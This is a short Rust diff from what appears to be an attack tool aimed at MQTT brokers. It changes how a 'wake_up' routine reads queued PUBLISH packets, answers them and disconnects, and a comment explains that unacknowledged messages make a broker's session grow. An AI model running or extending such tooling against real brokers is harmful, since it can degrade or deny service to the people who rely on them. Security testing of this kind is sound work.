@@ -149,11 +149,19 @@ fn wake_up(addr: SocketAddr, number: u64, missed: u64) -> Result<u64, AttackErro
     if client.wait_for(CONNACK)?.first() != Some(&1) {
         return Ok(missed);
     }
+    let mut replies = Vec::new();
     for heard in 0..missed {
-        if client.hear()?.is_none_or(|(kind, _)| kind & 0xf0 != 0x30) {
-            return Ok(missed - heard);
+        match client.hear()? {
+            Some((kind, body)) if kind & 0xf0 == 0x30 => {
+                mqtt::published(kind, &body, &mut replies);
+            }
+            _ => return Ok(missed - heard),
         }
     }
+    // What is not acknowledged stays with the session, which grows by all of it.
+    replies.extend(mqtt::DISCONNECT);
+    client.stream.write_all(&replies)?;
+    while client.hear()?.is_some() {}
     Ok(0)
 }
 
